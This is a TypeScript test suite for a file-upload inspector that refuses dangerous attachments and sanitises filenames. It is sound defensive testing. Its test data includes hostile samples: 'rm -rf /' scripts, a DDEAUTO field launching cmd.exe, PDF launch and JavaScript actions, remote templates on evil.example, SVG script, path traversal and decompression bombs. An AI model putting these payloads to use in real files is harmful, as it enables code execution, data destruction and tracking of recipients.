import { randomBytes } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import * as fc from 'fast-check';
import { contentTypes, docx, jpeg, pdf, pdfStream, png, relations, TYPES, wordBody, xlsx } from '../../../../../test/support/sent-files';
import { zip } from '../../../../../test/support/zip';
import { type Inspection, inspectFile } from './inspect-file';
import { inspectInThread } from './inspect-pool';
import { REFUSED_FILE_REASONS } from './refused-file';
import { safeName } from './safe-name';
import { stripMetadata } from './strip-metadata';

const MOST = 10 * 1024 * 1024;
const inspect = (name: string, bytes: Buffer, declaredType = ''): Inspection => inspectFile({ name, declaredType, bytes }, MOST);
const reason = (inspection: Inspection): string => ('refused' in inspection ? inspection.refused : 'taken');
const field = (instruction: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const instr = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;

test.each<[string, Buffer, string, string]>([
  ['意见.pdf', pdf(), TYPES.pdf, '意见.pdf'], ['a.docx', docx(), TYPES.docx, 'a.docx'], ['a.xlsx', xlsx(), TYPES.xlsx, 'a.xlsx'], ['a.png', png(), TYPES.png, 'a.png'], ['a.JPEG', jpeg(), 'image/jpeg', 'a.jpg'],
  ['a.jpg', jpeg(4000, 3000, { words: '在家拍的' }), 'image/pjpeg', 'a.jpg'], ['a.txt', Buffer.from('建议延长。\r\n\t第二行'), 'text/plain; charset=utf-8', 'a.txt'], ['gbk.txt', Buffer.from([0xbd, 0xa8, 0xd2, 0xe9]), TYPES.txt, 'gbk.txt'],
  ['bom.txt', Buffer.from('\uFEFF建议', 'utf16le'), '', 'bom.txt'], ['a.docx', docx(), 'application/octet-stream', 'a.docx'],
  ['链接.docx', docx({ 'word/_rels/document.xml.rels': relations({ type: 'hyperlink', target: 'https://www.gov.cn/', external: true }, { type: 'hyperlink', target: 'mailto:a@b.cn', external: true }) }), '', '链接.docx'],
  ['目录.docx', docx({ 'word/document.xml': wordBody(field(instr('TOC \\o "1-3"')) + field(instr(' HYPERLINK "https://www.gov.cn/"')) + field(instr('PAGE'))) }), '', '目录.docx'],
  ['对象流.pdf', pdf(pdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /Type /Page >>')), '', '对象流.pdf'], ['Import taxes.txt', Buffer.from('Import taxes are too high.'), '', 'Import taxes.txt'],
])('%s is taken', (name, bytes, declared, kept) => {
  expect(inspect(name, bytes, declared)).toEqual({ taken: { name: kept, mediaType: TYPES[kept.split('.').at(-1) as keyof typeof TYPES] } });
});

const MACRO = 'application/vnd.ms-office.vbaProject';
const OLE = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Buffer.alloc(504)]);
const HOSTILE: [string, string, Buffer, string][] = [
  ['nothing', 'a.pdf', Buffer.alloc(0), 'empty'], ['a giant', 'a.txt', Buffer.alloc(MOST + 1, 97), 'tooLarge'],
  ['no ending', 'README', Buffer.from('x'), 'kind'], ['another ending', 'a.md', Buffer.from('x'), 'kind'], ['an archive', 'a.zip', docx(), 'kind'], ['an old Word file', 'a.doc', OLE, 'oldOffice'],
  ['a macro ending', 'a.docm', docx(), 'kind'], ['a program', 'a.exe', Buffer.from('MZ\u0090\0', 'latin1'), 'program'], ['a hidden ending', 'tcejorp\u202Efdp.exe', Buffer.from('MZ\u0090\0', 'latin1'), 'program'],
  ['a double ending', 'a.pdf.js', Buffer.from('alert(1)'), 'kind'], ['a program called a PDF', 'a.pdf', Buffer.from('MZ\u0090\0', 'latin1'), 'program'], ['an ELF called a text', 'a.txt', Buffer.from('\u007fELF\u0002\u0001', 'latin1'), 'program'],
  ['a shell script called a text', 'a.txt', Buffer.from('#!/bin/sh\nrm -rf /'), 'script'], ['a batch file', 'a.txt', Buffer.from('@echo off\r\ndel *'), 'script'], ['RTF called a text', 'a.txt', Buffer.from('{\\rtf1 {\\object}}'), 'script'],
  ['HTML called a text', 'a.txt', Buffer.from('  \n<!DOCTYPE html><script>alert(1)</script>'), 'markup'], ['HTML behind words', 'a.txt', Buffer.from('你好 <script src=x></script>'), 'markup'],
  ['HTML in UTF-16', 'a.txt', Buffer.from('\uFEFF<html><script>', 'utf16le'), 'markup'], ['SVG', 'a.svg', Buffer.from('<svg onload="alert(1)"/>'), 'markup'], ['SVG called a PNG', 'a.png', Buffer.from('<svg onload="alert(1)"/>'), 'markup'],
  ['bytes called a text', 'a.txt', randomBytes(2000), 'mismatch'], ['a text with a NUL', 'a.txt', Buffer.from('a\0b'), 'mismatch'], ['gzip called a text', 'a.txt', gzipSync('x'), 'mismatch'],
  ['a PNG called a JPEG', 'a.jpg', png(), 'mismatch'], ['a PDF called a DOCX', 'a.docx', pdf(), 'mismatch'], ['a DOCX called an XLSX', 'a.xlsx', docx(), 'mismatch'], ['an XLSX called a DOCX', 'a.docx', xlsx(), 'mismatch'],
  ['a plain ZIP called a DOCX', 'a.docx', zip([{ name: 'x', data: Buffer.from('x') }]), 'mismatch'],
  ['an old file called a DOCX (also an encrypted one)', 'a.docx', OLE, 'oldOffice'],
  ['a template', 'a.docx', docx({ '[Content_Types].xml': contentTypes({ '/word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml' }) }), 'mismatch'],
  ['a macro main part', 'a.docx', docx({ '[Content_Types].xml': contentTypes({ '/word/document.xml': 'application/vnd.ms-word.document.macroEnabled.main+xml' }) }), 'macros'],
  ['a macro part by its type', 'a.docx', docx({ '[Content_Types].xml': contentTypes({ '/word/document.xml': `${TYPES.docx}.main+xml`, '/word/harmless.bin': MACRO }) }), 'macros'],
  ['vbaProject.bin', 'a.docx', docx({ 'word/vbaProject.bin': OLE }), 'macros'], ['a macro part by its relationship', 'a.docx', docx({ 'word/_rels/document.xml.rels': relations({ type: 'vbaProject', target: 'x.bin' }) }), 'macros'],
  ['a macro sheet', 'a.xlsx', xlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros'], ['ActiveX', 'a.docx', docx({ 'word/activeX/activeX1.xml': '<x/>' }), 'macros'],
  ['an OLE object', 'a.docx', docx({ 'word/embeddings/oleObject1.bin': OLE }), 'embedded'], ['an OLE object under another name', 'a.docx', docx({ 'word/media/image1.png': OLE }), 'embedded'],
  ['a file in a file', 'a.docx', docx({ 'word/media/image1.png': docx() }), 'embedded'], ['a program in a file', 'a.docx', docx({ 'word/media/image1.png': Buffer.from('MZ\u0090\0', 'latin1') }), 'embedded'],
  ['a page in a file', 'a.docx', docx({ 'word/_rels/document.xml.rels': relations({ type: 'aFChunk', target: 'afchunk.dat' }) }), 'embedded'],
  ['a template from elsewhere', 'a.docx', docx({ 'word/_rels/settings.xml.rels': relations({ type: 'attachedTemplate', target: 'http://evil.example/a.dotm', external: true }) }), 'external'],
  ['a template in UTF-16', 'a.docx', docx({ 'word/_rels/settings.xml.rels': Buffer.from(`\uFEFF${relations({ type: 'attachedTemplate', target: 'http://evil.example/a.dotm', external: true })}`, 'utf16le') }), 'external'],
  ['a template behind entities of letters', 'a.docx', docx({ 'word/_rels/settings.xml.rels': relations({ type: 'attached&#84;emplate', target: 'http://evil.example/a.dotm' }).replace('Target="', 'TargetMode="&#69;xternal" Target="') }), 'external'],
  ['a linked picture', 'a.docx', docx({ 'word/_rels/document.xml.rels': relations({ type: 'image', target: 'https://evil.example/pixel.png', external: true }) }), 'external'],
  ['a link to a share', 'a.docx', docx({ 'word/_rels/document.xml.rels': relations({ type: 'hyperlink', target: '\\\\evil\\share', external: true }) }), 'external'],
  ['another workbook', 'a.xlsx', xlsx({ 'xl/externalLinks/externalLink1.xml': '<x/>' }), 'external'], ['a data connection', 'a.xlsx', xlsx({ 'xl/connections.xml': '<x/>' }), 'external'],
  ['a field that starts a program', 'a.docx', docx({ 'word/document.xml': wordBody(field(instr('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))) }), 'external'],
  ['such a field cut into pieces', 'a.docx', docx({ 'word/document.xml': wordBody(field(instr('DDE') + instr('AUTO') + instr(' cmd'))) }), 'external'],
  ['such a field in one piece', 'a.docx', docx({ 'word/header1.xml': `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:fldSimple w:instr=" INCLUDETEXT http://evil.example/x "/></w:hdr>` }), 'external'],
  ['a lie about the size', 'a.docx', zip([{ name: 'x.xml', data: Buffer.alloc(50_000_000), declared: 10 }]), 'broken'],
  ['a ZIP bomb', 'a.docx', docx({ 'word/document.xml': Buffer.concat([Buffer.from('<a>'), Buffer.alloc(20_000_000, 32), Buffer.from('</a>')]) }), 'bomb'],
  ['many parts of it', 'a.docx', docx(Object.fromEntries(Array.from({ length: 80 }, (_, at) => [`word/m${at}.xml`, Buffer.alloc(1_000_000, 32)]))), 'bomb'],
  ['too many entries', 'a.docx', zip(Array.from({ length: 2001 }, (_, at) => ({ name: `x${at}`, data: Buffer.alloc(0) }))), 'bomb'],
  ['too many tags', 'a.docx', docx({ 'word/document.xml': wordBody('<w:p/>'.repeat(510_000)) }), 'bomb'],
  ['entities', 'a.docx', docx({ 'word/document.xml': '<!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><x>&a;</x>' }), 'broken'], ['an odd encoding', 'a.docx', docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }), 'broken'],
  ['no XML', 'a.docx', docx({ 'word/document.xml': '<w:p>' }), 'broken'], ['a locked entry', 'a.docx', zip([{ name: 'word/document.xml', data: Buffer.from('x'), flags: 1 }]), 'encrypted'],
  ['a name that climbs', 'a.docx', docx({ '../../etc/passwd': 'x' }), 'broken'], ['a name with a backslash', 'a.docx', docx({ 'word\\x': 'x' }), 'broken'], ['a name twice', 'a.docx', docx({ 'WORD/document.xml': 'x' }), 'broken'],
  ['bytes before the archive', 'a.docx', Buffer.concat([Buffer.from('PK\u0003\u0004junk'), docx()]), 'broken'], ['half an archive', 'a.docx', docx().subarray(0, 300), 'broken'],
  ['JavaScript', 'a.pdf', pdf('<< /S /JavaScript /JS (app.alert(1)) >>'), 'active'], ['JavaScript in other letters', 'a.pdf', pdf('<< /S /J#61va#53cript /JS (x) >>'), 'active'],
  ['JavaScript packed away', 'a.pdf', pdf(pdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /S /JavaScript /JS (x) >>')), 'active'],
  ['JavaScript packed away without a type', 'a.pdf', pdf(pdfStream('/N 1 /First 4', '5 0 << /S /JavaScript /JS (x) >>')), 'active'],
  ['objects packed twice', 'a.pdf', pdf('<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n00>\nendstream'), 'active'],
  ['a program to launch', 'a.pdf', pdf('<< /S /Launch /F (cmd.exe) >>'), 'active'], ['a file inside', 'a.pdf', pdf('<< /Type /EmbeddedFile >>'), 'active'], ['a film', 'a.pdf', pdf('<< /Subtype /RichMedia >>'), 'active'],
  ['a form that sends', 'a.pdf', pdf('<< /S /SubmitForm /F (http://evil.example) >>'), 'active'], ['an XFA form', 'a.pdf', pdf('<< /AcroForm << /XFA [(template) 9 0 R] >> >>'), 'active'],
  ['a locked PDF', 'a.pdf', pdf('<< /Encrypt 9 0 R >>'), 'encrypted'], ['a PDF bomb', 'a.pdf', pdf(pdfStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(70_000_000))), 'bomb'],
  ['half a PDF', 'a.pdf', pdf().subarray(0, 60), 'broken'], ['a PDF that is none', 'a.pdf', Buffer.from('%PDF-hello'), 'broken'], ['a PDF behind a page', 'a.pdf', Buffer.concat([Buffer.from('<html>'), pdf()]), 'markup'],
  ['a picture bomb', 'a.png', png(60_000, 60_000), 'pixels'], ['a wide one', 'a.png', png(40_000, 10), 'pixels'], ['a JPEG bomb', 'a.jpg', jpeg(20_000, 20_000), 'pixels'], ['a picture of nothing', 'a.png', png(0, 5), 'broken'],
  ['a PNG with something behind it', 'a.png', Buffer.concat([png(), docx()]), 'broken'], ['a PNG header alone', 'a.png', Buffer.from('\u0089PNG\r\n\u001a\n', 'latin1'), 'broken'], ['half a PNG', 'a.png', png().subarray(0, 40), 'broken'],
  ['a PNG chunk without end', 'a.png', Buffer.concat([png().subarray(0, 33), Buffer.from([0xff, 0xff, 0xff, 0xff]), png().subarray(37)]), 'broken'], ['a JPEG header alone', 'a.jpg', Buffer.from([0xff, 0xd8, 0xff]), 'broken'], ['half a JPEG', 'a.jpg', jpeg().subarray(0, 60), 'broken'],
];

test.each(HOSTILE)('%s is refused', (_what, name, bytes, why) => {
  expect(reason(inspect(name, bytes))).toBe(why);
});

test('every reason but a slow check has a file here, or a declared type', () => {
  const met = new Set([...HOSTILE.map(([, , , why]) => why), reason(inspect('a.pdf', pdf(), 'text/html'))]);
  expect(REFUSED_FILE_REASONS.filter((one) => !met.has(one))).toEqual(['slow']);
});

test.each([['a.pdf', pdf(), 'text/html'], ['a.txt', Buffer.from('x'), 'application/pdf'], ['a.png', png(), 'image/svg+xml'], ['a.docx', docx(), 'application/vnd.ms-word.document.macroEnabled.12']])('%s declared as %3$s is refused', (name, bytes, declared) => {
  expect(reason(inspect(name, bytes, declared))).toBe('declared');
});

test.each([
  ['C:\\fakepath\\意见.pdf', '意见', 'pdf'], ['../../etc/passwd', 'passwd', ''], ['a\u202Efdp.exe', 'afdp', 'exe'], ['\u0000\u0007x\u200B.PDF', 'x', 'pdf'], ['CON.txt', '_CON', 'txt'], ['nul', '_nul', ''], ['com1.tar.pdf', '_com1.tar', 'pdf'],
  ['  a  b . pdf ', 'a b', 'pdf'], ['...', '', ''], ['.htaccess', '', 'htaccess'], ['<script>"x".pdf', 'scriptx', 'pdf'], ['=cmd|calc.xlsx', '=cmdcalc', 'xlsx'], [`${'长'.repeat(300)}.pdf`, '长'.repeat(100), 'pdf'], ['％2e／x.pdf', 'x', 'pdf'], ['e\u0301.txt', 'é', 'txt'],
])('the name %j becomes harmless', (name, base, ending) => {
  expect(safeName(name)).toEqual({ base, ending });
});

test('a file with no name left is called something', () => {
  expect(inspect('\u202E.pdf', pdf())).toEqual({ taken: { name: '附件.pdf', mediaType: TYPES.pdf } });
});

test('no bytes and no name make it throw, and what it says is harmless', () => {
  const whole = [pdf(), docx(), xlsx(), png(), jpeg()];
  fc.assert(fc.property(fc.integer({ min: 0, max: 4 }), fc.array(fc.tuple(fc.nat(2000), fc.nat(255)), { maxLength: 8 }), fc.string({ unit: 'binary', maxLength: 40 }), fc.constantFrom('pdf', 'docx', 'xlsx', 'png', 'jpg', 'txt'), (which, changes, name, ending) => {
    const bytes = Buffer.from(whole[which]!);
    for (const [at, value] of changes) bytes[at % bytes.length] = value;
    const inspection = inspect(`${name}.${ending}`, bytes);
    const said = 'taken' in inspection ? inspection.taken.name : inspection.name;
    expect(said).not.toMatch(/[\p{Cc}\p{Cf}/\\<>]/u);
    expect([...said].length).toBeLessThanOrEqual(130);
  }), { numRuns: 1500 });
});

test('it is the same in a thread', async () => {
  expect(await inspectInThread({ name: 'a.pdf', declaredType: '', bytes: pdf() }, MOST)).toEqual({ taken: { name: 'a.pdf', mediaType: TYPES.pdf } });
  expect(await inspectInThread({ name: 'a.pdf', declaredType: '', bytes: pdf('<< /S /Launch >>') }, MOST)).toEqual({ refused: 'active', name: 'a.pdf' });
});

describe('a copy for everybody', () => {
  test('has nothing of what a camera wrote, and is the same way up', () => {
    const whole = jpeg(40, 30, { orientation: 6, words: '张三家 39.9N' });
    const copy = stripMetadata(TYPES.jpg, whole);
    expect(whole.includes('张三家')).toBe(true);
    expect(copy.includes('张三家')).toBe(false);
    expect(reason(inspect('a.jpg', copy))).toBe('taken');
    expect(copy.includes(Buffer.from([0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 6]))).toBe(true);
    expect(copy.includes('JFIF')).toBe(true);
    expect(copy.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    expect(stripMetadata(TYPES.jpg, copy)).toEqual(copy);
    expect(stripMetadata(TYPES.jpg, jpeg(40, 30, { orientation: 1, words: 'x' })).includes('Exif')).toBe(false);
  });

  test('of a PNG keeps what it is drawn with', () => {
    const copy = stripMetadata(TYPES.png, png(2, 2, { tEXt: 'Author\0张三', eXIf: '张三', pHYs: 'xxxxxxxxx' }));
    expect([copy.includes('张三'), copy.includes('pHYs'), reason(inspect('a.png', copy))]).toEqual([false, true, 'taken']);
    expect(stripMetadata(TYPES.png, png())).toEqual(png());
  });

  test('of anything else is the file', () => {
    expect(stripMetadata(TYPES.pdf, pdf())).toEqual(pdf());
  });
});
